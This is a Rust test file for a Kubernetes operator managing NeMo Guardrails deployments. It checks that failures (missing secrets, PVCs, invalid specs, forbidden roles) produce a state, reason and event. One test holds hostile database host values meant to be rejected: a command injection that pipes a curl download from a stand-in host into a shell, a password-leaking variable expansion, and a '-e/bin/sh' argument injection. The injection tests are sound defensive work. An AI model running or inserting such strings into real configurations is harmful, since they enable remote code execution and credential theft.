//! Every way to fail ends in a state, a reason and an event, and in nothing that is lost.

use super::*;
use crate::operator::engine::decide::{Decision, Seen, decide};
use crate::operator::engine::kind::Notice;

fn database() -> Value {
    json!({"host": "pg.nemo.svc", "databaseName": "rails", "credentials": {"user": "u", "secretName": "pg"}})
}

fn with_database() -> crds::nemo::NemoGuardrail {
    guardrail(&json!({"databaseConfig": database()}))
}

#[test]
fn nemo_b05_a_missing_database_secret_is_told() {
    let report = told(&with_database(), &Found::default(), &Outcome::default());
    assert_eq!(report.status["state"], "Failed");
    let message =
        "SecretNotFound: Secret pg of spec.databaseConfig.credentials.secretName not found: make it";
    let notice = Notice { warning: true, reason: "Failed".into(), message: message.into() };
    assert_eq!(report.notices, [notice]);
}

#[test]
fn nemo_b16_every_failure_has_a_state_a_reason_and_an_event() {
    let claim = |claim: Value| json!({"configStore": {"pvc": claim}});
    let with_database = json!({"databaseConfig": database()});
    let on = |host: &str| {
        let mut database = database();
        database["host"] = json!(host);
        json!({"databaseConfig": database})
    };
    let password = || found(&[(Thing::Secret, "pg", &[("password", "word")])]);
    let other_key = found(&[(Thing::Secret, "pg", &[("other", "x")])]);
    for (patch, here, reason, words) in [
        (with_database.clone(), Found::default(), "SecretNotFound", "Secret pg"),
        (with_database, other_key, "SecretKeyNotFound", "has no key password"),
        (claim(json!({"name": "own"})), Found::default(), "PVCNotFound", "PVC own of spec.configStore.pvc"),
        (
            claim(json!({"create": true})),
            Found::default(),
            "InvalidSpec",
            "spec.configStore.pvc.size is empty",
        ),
        (json!({"scale": {"enabled": true}}), Found::default(), "HPAFailed", "spec.scale.hpa.maxReplicas"),
        (
            on("pg; curl evil.example | sh #"),
            password(),
            "InvalidSpec",
            "spec.databaseConfig.host is \"pg; curl",
        ),
        (on("$(POSTGRES_DB_PASSWORD)"), password(), "InvalidSpec", "spec.databaseConfig.host"),
        (on("-e/bin/sh"), password(), "InvalidSpec", "neither a DNS name nor an IP address"),
        (on("pg/other?host=evil.example"), password(), "InvalidSpec", "spec.databaseConfig.host"),
        (on("pg\n"), password(), "InvalidSpec", "spec.databaseConfig.host"),
    ] {
        let report = told(&guardrail(&patch), &here, &Outcome::default());
        let (is_ready, why, message) = ready(&report);
        assert_eq!((&report.status["state"], is_ready, why.as_str()), (&json!("Failed"), false, reason));
        assert!(message.contains(words), "{message} lacks {words}");
        assert!(Conditions::read(&report.status).is_true("Failed"));
        assert_eq!(report.notices.len(), 1, "{reason}");
    }
    let outcome = Outcome { failure: Some(Failure::new("RoleFailed", "forbidden")), ..Outcome::default() };
    let report = told(&guardrail(&json!({})), &Found::default(), &outcome);
    assert_eq!((ready(&report).1.as_str(), report.again), ("RoleFailed", Again::Backoff));
}

#[test]
fn nemo_b16_a_right_that_is_missing_is_told_and_leaves_the_pods_alone() {
    let why = Failure::new("SecretFailed", "get Secret pg: forbidden");
    let here = Found { refused: Some(why.clone()), ..Found::default() };
    let rendered = rendered::<Guardrails>(&with_database(), &here);
    assert_eq!(failure(&rendered), &why);
    assert!(!kinds(&rendered).contains(&ChildKind::Deployment) && !rendered.complete);
}

#[test]
fn what_does_not_need_the_missing_part_is_made_all_the_same() {
    let waits = rendered::<Guardrails>(&with_database(), &Found::default());
    let made = [ChildKind::ServiceAccount, ChildKind::Role, ChildKind::RoleBinding, ChildKind::Service];
    assert_eq!(kinds(&waits), made);
    assert!(!waits.complete, "nothing is removed before everything is known");
}

#[test]
fn nemo_b03_a_secret_of_the_users_with_the_objects_name_stays_as_it_is() {
    let here = found(&[(Thing::Secret, "pg", &[("password", "word")])]);
    let rendered = rendered::<Guardrails>(&with_database(), &here);
    let secret = rendered.children.iter().find(|child| child.kind == ChildKind::Secret).unwrap();
    let owner = subject::<Guardrails>("sample").owner;
    let theirs = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "sample", "uid": "x"}});
    let theirs: DynamicObject = serde_json::from_value(theirs).unwrap();
    let decision = decide(
        secret,
        &secret.stamped(&owner),
        &owner,
        Seen { live: Some(&theirs), looked: true, ..Seen::default() },
    );
    assert!(matches!(&decision, Decision::Conflict(why) if why.contains("is not ours")), "{decision:?}");
}

#[test]
fn nemo_b20_what_is_made_has_the_labels_of_all_children_and_none_of_the_objects_annotations() {
    let here = found(&[(Thing::Secret, "pg", &[("password", "word")])]);
    let mut subject = subject::<Guardrails>("sample");
    subject.annotations.insert("kubectl.kubernetes.io/last-applied-configuration".into(), "{}".into());
    let facts = ClusterFacts::default();
    let rendered = Nemo::<Guardrails>::render(&with_database(), &subject, &here, &facts);
    let metadata = &child(&rendered, ChildKind::Secret)["metadata"];
    assert_eq!(metadata["annotations"], Value::Null);
    assert_eq!(metadata["labels"]["app.kubernetes.io/managed-by"], "k8s-nim-operator");
    assert_eq!(metadata["labels"], child(&rendered, ChildKind::Service)["metadata"]["labels"]);
}

#[test]
fn a_secret_that_is_no_longer_needed_is_removed() {
    let secret = (ChildKind::Secret, "sample".to_owned());
    assert_eq!(of(&json!({})).remove, [secret]);
    let here = found(&[(Thing::Secret, "pg", &[("password", "word")])]);
    assert_eq!(rendered::<Guardrails>(&with_database(), &here).remove, []);
}

#[test]
fn what_serves_is_told_beside_what_fails_and_what_is_not_applied_yet() {
    let told = |failure: Option<&str>, waits: Option<&str>| {
        let failure = failure.map(|words| Failure::new("DeploymentFailed", words));
        let waits = waits.map(|words| Failure::new("NotApplied", words));
        let outcome = Outcome { failure, waits, ..outcome(&deployment(2, 2, 2, 2)) };
        told(&guardrail(&json!({})), &Found::default(), &outcome)
    };
    let away = told(None, Some("not applied yet: failed calling webhook"));
    assert_eq!((&away.status["state"], &away.status["availableReplicas"]), (&json!("NotReady"), &json!(2)));
    assert!(!Conditions::read(&away.status).is_true("Failed"));
    assert_eq!(away.again, Again::Backoff);
    let refused = told(Some("denied the request: no"), None);
    assert_eq!(
        (&refused.status["state"], &refused.status["availableReplicas"]),
        (&json!("Failed"), &json!(2))
    );
}
